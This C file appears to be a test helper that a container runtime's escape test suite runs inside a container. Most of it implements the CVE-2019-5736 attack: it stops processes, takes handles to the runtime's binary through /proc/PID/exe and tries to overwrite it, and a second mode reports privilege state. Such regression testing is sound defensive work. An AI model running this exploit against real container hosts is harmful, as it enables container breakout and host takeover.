/* Attacks run *inside* a container by tests/escapes.rs. Built static (gcc -static), so it
 * needs nothing from the container's rootfs. Every mode writes one report line to a file;
 * the test asserts on it and, above all, on the host's state.
 *
 *   attack exe SECONDS REPORT    CVE-2019-5736: stop every new process in our pid namespace,
 *                                grab /proc/PID/exe of anything that is not us or busybox
 *                                (the runtime, or the runtime re-executed through
 *                                /proc/self/exe), then keep trying to open it for writing and
 *                                write into it until SECONDS pass. It also makes the FIFO
 *                                /tmp/hold: a runtime re-executed as `/proc/self/exe --log
 *                                /tmp/hold ...` blocks opening it until we have its exe.
 *   attack ids                   print "ruid euid NoNewPrivs CapEff": for a setuid copy.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_GRAB 64

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int same_file(int fd, const char *path) {
    struct stat a, b;
    return fstat(fd, &a) == 0 && stat(path, &b) == 0 && a.st_dev == b.st_dev &&
           a.st_ino == b.st_ino;
}

static int attack_exe(double seconds, const char *report) {
    int grabbed[MAX_GRAB], ngrab = 0, seen_pids = 0, denied = 0, last_err = 0, open_err = 0;
    char target[256] = "";
    static char seen[1 << 22];
    const char *result = "no-handle";
    double end = now() + seconds, release = now() + seconds / 2;
    pid_t me = getpid();
    int hold = -1;
    mkfifo("/tmp/hold", 0666);
    while (now() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == me || pid >= (int)sizeof(seen) || seen[pid] == 2)
                continue;
            if (!seen[pid]) {
                seen_pids++;
                kill(pid, SIGSTOP); /* a new process: freeze it while we look */
            }
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                /* Denied (or gone): look again next round, it may exec something else. */
                if (!seen[pid])
                    denied++;
                open_err = errno;
            } else if (same_file(fd, "/proc/self/exe") || same_file(fd, "/bin/busybox") ||
                       ngrab == MAX_GRAB) {
                close(fd);
            } else {
                grabbed[ngrab++] = fd;
                ssize_t n = readlink(p, target, sizeof target - 1);
                target[n > 0 ? n : 0] = 0;
                seen[pid] = 2;
            }
            if (!seen[pid]) {
                seen[pid] = 1;
                kill(pid, SIGCONT);
            } else if (seen[pid] == 2) {
                kill(pid, SIGCONT);
            }
        }
        if (d)
            closedir(d);
        for (int i = 0; i < ngrab; i++) {
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", grabbed[i]);
            int w = open(p, O_WRONLY | O_CLOEXEC);
            if (w < 0) {
                last_err = errno;
                continue;
            }
            if (write(w, "#PWNED", 6) == 6) {
                result = "ESCAPED: wrote into the runtime binary";
                close(w);
                goto done;
            }
            last_err = errno;
            close(w);
        }
        if (ngrab)
            result = "handle-but-no-write";
        if (hold < 0 && (ngrab || now() > release))
            hold = open("/tmp/hold", O_RDONLY | O_NONBLOCK);
        sched_yield();
    }
done:;
    FILE *f = fopen(report, "w");
    if (!f)
        return 1;
    fprintf(f, "%s grabbed=%d target=%s last_error=%s denied=%d (%s) pids=%d\n", result,
            ngrab, target[0] ? target : "-", last_err ? strerrorname_np(last_err) : "-", denied,
            open_err ? strerrorname_np(open_err) : "-", seen_pids);
    fclose(f);
    return 0;
}

static int ids(void) {
    char line[256], caps[64] = "?", nnp[16] = "?";
    FILE *f = fopen("/proc/self/status", "r");
    while (f && fgets(line, sizeof line, f)) {
        sscanf(line, "CapEff: %63s", caps);
        sscanf(line, "NoNewPrivs: %15s", nnp);
    }
    if (f)
        fclose(f);
    printf("ruid=%d euid=%d nnp=%s capeff=%s\n", getuid(), geteuid(), nnp, caps);
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 4 && !strcmp(argv[1], "exe"))
        return attack_exe(atof(argv[2]), argv[3]);
    if (argc >= 2 && !strcmp(argv[1], "ids"))
        return ids();
    fprintf(stderr, "usage: attack exe SECONDS REPORT | attack ids\n");
    return 2;
}
